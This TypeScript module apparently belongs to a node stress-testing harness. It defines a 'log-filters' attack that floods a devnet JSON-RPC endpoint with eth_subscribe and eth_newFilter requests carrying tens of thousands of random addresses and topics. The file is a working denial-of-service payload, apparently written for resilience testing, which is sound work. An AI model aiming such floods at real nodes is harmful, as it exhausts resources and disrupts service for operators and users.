import { randomBytes } from "node:crypto";
import type { Attack } from "../attack.ts";
import { callOf } from "../questions.ts";

const CLIENTS = 10;
const ADDRESSES = 60_000;
const hex = (bytes: number) => `0x${randomBytes(bytes).toString("hex")}`;

export const logFilters: Attack = {
  name: "log-filters",
  does: "subscribes to logs, and makes filters of them, with as many addresses as fit into a message, and with a thousand",
  targets: ["devnet"],
  async run(attacker) {
    const criteria = [ADDRESSES, 1000].map((count) => {
      const address = Array.from({ length: count }, () => hex(20));
      return { address, topics: [Array.from({ length: Math.min(count, 1000) }, () => hex(32))] };
    });
    const subscriptions = criteria.map((each) => callOf("eth_subscribe", ["logs", each]));
    const filters = criteria.map((each) => callOf("eth_newFilter", [each]));
    await attacker.again(CLIENTS, async (turn) => {
      if (turn % 2 === 0) return attacker.post("/ext/bc/C/rpc", filters[(turn / 2) % filters.length]!);
      const client = await attacker.webSocket();
      if (client === undefined) return;
      for (let sent = 0; sent < 256 && client.readyState === 1 && !attacker.isOver(); sent++) {
        client.send(subscriptions[sent % subscriptions.length]!);
        await attacker.wait(5);
      }
      await attacker.wait(500);
      client.terminate();
    });
  },
};
